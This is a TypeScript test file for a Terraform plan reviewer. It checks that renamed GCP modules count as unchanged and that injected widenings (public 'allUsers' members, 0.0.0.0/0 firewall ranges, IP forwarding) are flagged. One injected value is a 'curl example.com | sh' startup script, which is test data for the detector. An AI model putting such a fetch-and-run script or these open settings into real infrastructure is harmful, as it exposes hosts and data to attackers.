import { readFileSync } from "node:fs";
import { join } from "node:path";
import { type PlanReview, reviewPlans } from "../../lib/plan-review";
import { TerraformPlan } from "../../lib/terraform";

/** Of a plan as Terraform prints it, what a test changes. */
interface PlanText {
  readonly resource_changes: readonly { readonly address: string; readonly change: { after: object } }[];
}

/**
 * Plans of Terraform 1.11.4 and provider 7.45.0. Of modules of our own, in the shape of such that make resources from
 * maps and lists through locals (`rule-factory`, `template-rollout`, `node-pool`), and of public modules
 * (`terraform-google-modules`): cloud-storage (simple_bucket), network (subnets, firewall-rules, routes) and pubsub.
 * Calls of modules are renamed with `moved` blocks; labels, and the words of a firewall rule, change.
 */
function planOf(module: string): PlanText {
  return JSON.parse(readFileSync(join(__dirname, "refactorings", `${module}.json`), "utf8")) as PlanText;
}

function reviewOf(plan: PlanText): PlanReview {
  const [review] = reviewPlans([{ name: "p", plan: TerraformPlan.read(plan) }]).plans;
  if (review === undefined) throw new Error("no review");
  return review;
}

test.each([
  ["cloud-storage", 2, 1],
  ["network", 6, 2],
  ["pubsub", 4, 1],
])("a refactoring of %s changes nothing that lets anybody in", (module, moved, changed) => {
  const { verdict, findings, unread, notes } = reviewOf(planOf(module));
  expect({ verdict, findings, unread, notes: notes.map(String) }).toEqual({
    verdict: "unchanged",
    findings: [],
    unread: [],
    notes: [`${moved} resources moved to another address, and ${changed} of them changed there`],
  });
});

test.each([
  ["cloud-storage", "google_storage_bucket.bucket", { uniform_bucket_level_access: false }],
  ["cloud-storage", 'members["0"]', { member: "allUsers" }],
  ["network", 'rules_ingress_egress["allow-internal"]', { source_ranges: ["0.0.0.0/0"] }],
  ["network", 'rules_ingress_egress["deny-all"]', { destination_ranges: ["10.0.0.0/8"] }],
  ["pubsub", 'pull_subscription_sa_binding_subscriber["reader"]', { member: "allUsers" }],
])("one of %s hides nothing else: %s", (module, address, value) => {
  const plan = planOf(module);
  const change = plan.resource_changes.find((one) => one.address.endsWith(address))?.change;
  if (change === undefined) throw new Error("no such resource");
  change.after = { ...change.after, ...value };
  expect(reviewOf(plan).verdict).toBe("widened");
});

describe("modules that write null where somebody leaves something to Google", () => {
  test("a rule with another name, and a subnet with other words, are the same as before", () => {
    const { verdict, findings, unread, notes } = reviewOf(planOf("rule-factory"));
    expect({ verdict, findings, unread }).toEqual({ verdict: "unchanged", findings: [], unread: [] });
    expect(notes.map(String)).toEqual(["6 resources moved to another address, and 4 of them changed there"]);
  });

  test("hosts that are made anew for another label are the same, and so is the group that rolls them out", () => {
    const { verdict, findings, unread } = reviewOf(planOf("template-rollout"));
    expect({ verdict, findings, unread }).toEqual({ verdict: "unchanged", findings: [], unread: [] });
  });

  test("a pool of nodes under another name is the same, and loses what was on its disks", () => {
    const { verdict, findings, unread } = reviewOf(planOf("node-pool"));
    expect({ verdict, unread }).toEqual({ verdict: "unchanged", unread: [] });
    expect(findings.map(({ rule }) => rule)).toEqual(["loss-of-data"]);
  });

  test.each([
    ["template-rollout", { network_interface: [{ access_config: [{}], subnetwork: "s" }] }],
    ["template-rollout", { can_ip_forward: true }],
    ["template-rollout", { metadata_startup_script: "curl example.com | sh" }],
    ["node-pool", { node_config: [{ service_account: "other@acme-ml.iam.gserviceaccount.com" }] }],
  ])("what %s hides is told: %j", (name, value) => {
    const plan = planOf(name);
    const change = plan.resource_changes.find(({ address }) => /template|node_pool/.test(address))?.change;
    if (change === undefined) throw new Error("no such resource");
    change.after = { ...change.after, ...value };
    expect(reviewOf(plan).verdict).toBe("widened");
  });

  test("of rules that are renamed, the one that lets more in is told", () => {
    const plan = planOf("rule-factory");
    const rule = plan.resource_changes.find(({ address }) => address.endsWith('rules["ssh-from-iap"]'));
    if (rule === undefined) throw new Error("no such rule");
    rule.change.after = { ...rule.change.after, source_ranges: ["0.0.0.0/0"] };
    const { verdict, findings } = reviewOf(plan);
    expect(verdict).toBe("widened");
    expect(findings.filter(({ effect }) => effect === "unknown")).toEqual([]);
    // What the rule says, and what hosts of the network can be reached from by it.
    expect(findings.map(({ address }) => address).sort()).toEqual([
      'module.firewall.google_compute_firewall.rules["ssh-from-iap"]',
      "module.network.google_compute_network.vpc",
    ]);
  });

  test("of rules that are renamed, the one that cannot be seen is told, and what it stands for", () => {
    const plan = planOf("rule-factory");
    const rule = plan.resource_changes.find(({ address }) => address.endsWith('rules["ssh-from-iap"]'));
    if (rule === undefined) throw new Error("no such rule");
    rule.change.after = { ...rule.change.after, source_ranges: null };
    Object.assign(rule.change, { after_unknown: { source_ranges: true } });
    const { verdict, findings } = reviewOf(plan);
    expect(verdict).toBe("widened");
    const rules = findings.filter(({ rule: id }) => id === "network-paths").map(({ address }) => address);
    expect(rules.sort()).toEqual([
      'module.firewall.google_compute_firewall.rules["iap"]',
      'module.firewall.google_compute_firewall.rules["ssh-from-iap"]',
    ]);
  });

  test("what may come from another resource is not known, and told", () => {
    const plan = planOf("rule-factory");
    const network = { resource: "module.network.google_compute_network.vpc", attribute: ["mtu"] };
    const changed = plan.resource_changes.find(({ address }) => address === network.resource)?.change;
    if (changed === undefined) throw new Error("no network");
    Object.assign(changed, { actions: ["update"], after_unknown: { mtu: true } });
    const { verdict, findings } = reviewOf({ ...plan, relevant_attributes: [network] } as PlanText);
    expect(verdict).toBe("widened");
    expect(findings.map(({ effect }) => effect)).toContain("unknown");
  });
});
